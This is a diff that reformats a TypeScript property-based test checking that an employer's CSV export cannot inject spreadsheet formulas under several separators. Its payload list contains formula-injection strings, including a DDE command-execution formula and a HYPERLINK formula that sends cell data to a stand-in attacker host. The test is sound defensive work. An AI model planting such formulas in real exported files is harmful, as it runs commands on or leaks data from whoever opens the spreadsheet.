@@ -1,6 +1,7 @@
 /**
- * What an employer's CSV becomes in a spreadsheet, by a small spreadsheet's own rules: whatever it separates cells by, no text of
- * somebody else is a formula, and with commas every text is where it was written.
+ * What an employer's CSV becomes in a spreadsheet, by a small spreadsheet's own rules: whatever it
+ * separates cells by, no text of somebody else is a formula, and with commas every text is where it
+ * was written.
  */
 import { expect } from "chai";
 import fc from "fast-check";
@@ -9,8 +10,9 @@ import { type Cell, cellOf, csvOf } from "../../console/src/areas/employer/csv.t
 const separators = [",", ";", "\t", "|"];
 
 /**
- * The cells of a file. A quote quotes at the beginning of a cell alone, there a doubled one is a quote and what follows the closing one
- * belongs to the cell; with `quotes` false it is a character like another, as for programs that split lines.
+ * The cells of a file. A quote quotes at the beginning of a cell alone, there a doubled one is a
+ * quote and what follows the closing one belongs to the cell; with `quotes` false it is a character
+ * like another, as for programs that split lines.
  */
 function cellsOf(csv: string, separator: string, quotes: boolean): string[] {
   const cells: string[] = [];
@@ -24,22 +26,41 @@ function cellsOf(csv: string, separator: string, quotes: boolean): string[] {
       }
       at += 1;
     }
-    for (; at < csv.length && csv[at] !== separator && csv[at] !== "\r" && csv[at] !== "\n"; at += 1) cell += csv[at];
+    for (
+      ;
+      at < csv.length && csv[at] !== separator && csv[at] !== "\r" && csv[at] !== "\n";
+      at += 1
+    )
+      cell += csv[at];
     cells.push(cell);
   }
   return cells;
 }
 
-/** Whether a spreadsheet may compute a cell; one that drops quotes and what is not seen is reckoned with. An amount is a number. */
+/**
+ * Whether a spreadsheet may compute a cell; one that drops quotes and what is not seen is reckoned
+ * with. An amount is a number.
+ */
 const computed = (cell: string) => {
   const seen = cell.replace(/^[\s"\p{Cc}\p{Cf}]+/u, "");
   return /^[=+\-@＝＋－＠]/.test(seen) && !/^-?\d{1,15}(\.\d+)?"?$/.test(seen);
 };
 const formulas = (rows: Cell[][]): string[] =>
-  separators.flatMap((separator) => [true, false].flatMap((quotes) => cellsOf(csvOf(rows), separator, quotes).filter(computed)));
+  separators.flatMap((separator) =>
+    [true, false].flatMap((quotes) => cellsOf(csvOf(rows), separator, quotes).filter(computed)),
+  );
 
 describe("an employer's CSV", () => {
-  const payloads = ["=40+2", "+1+1", "-2+3", "@SUM(1)", "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example/?"&A1;"receipt")', "＝1+1", "＠x"];
+  const payloads = [
+    "=40+2",
+    "+1+1",
+    "-2+3",
+    "@SUM(1)",
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("https://evil.example/?"&A1;"receipt")',
+    "＝1+1",
+    "＠x",
+  ];
   const places = [
     "",
     "lunch;",
@@ -75,20 +96,45 @@ describe("an employer's CSV", () => {
 
   it("has none in whatever texts stand side by side", () => {
     const text = fc.string({
-      unit: fc.constantFrom("=", "+", "-", "@", "1", "a", ";", ",", "|", "\t", "\n", "\r", '"', "'", " ", "\u200b", "\u0085", "＝"),
+      unit: fc.constantFrom(
+        "=",
+        "+",
+        "-",
+        "@",
+        "1",
+        "a",
+        ";",
+        ",",
+        "|",
+        "\t",
+        "\n",
+        "\r",
+        '"',
+        "'",
+        " ",
+        "\u200b",
+        "\u0085",
+        "＝",
+      ),
       maxLength: 12,
     });
     fc.assert(
-      fc.property(fc.array(fc.array(text, { minLength: 1, maxLength: 4 }), { minLength: 1, maxLength: 3 }), (rows) => {
-        // the first cell of a row is ours
-        expect(formulas(rows.map((row) => ["id", ...row]))).deep.equals([]);
-      }),
+      fc.property(
+        fc.array(fc.array(text, { minLength: 1, maxLength: 4 }), { minLength: 1, maxLength: 3 }),
+        (rows) => {
+          // the first cell of a row is ours
+          expect(formulas(rows.map((row) => ["id", ...row]))).deep.equals([]);
+        },
+      ),
       { numRuns: 2_000 },
     );
   });
 
   it("with commas gives every text back, but for breaks of line and the apostrophe before a formula's sign", () => {
-    const text = fc.string({ unit: fc.constantFrom("a", "票", ";", ",", "|", '"', "'", " ", "1"), maxLength: 12 });
+    const text = fc.string({
+      unit: fc.constantFrom("a", "票", ";", ",", "|", '"', "'", " ", "1"),
+      maxLength: 12,
+    });
     fc.assert(
       fc.property(fc.array(text, { minLength: 1, maxLength: 5 }), (row) => {
         expect(cellsOf(csvOf([row]).slice(1), ",", true).slice(0, row.length)).deep.equals(row);
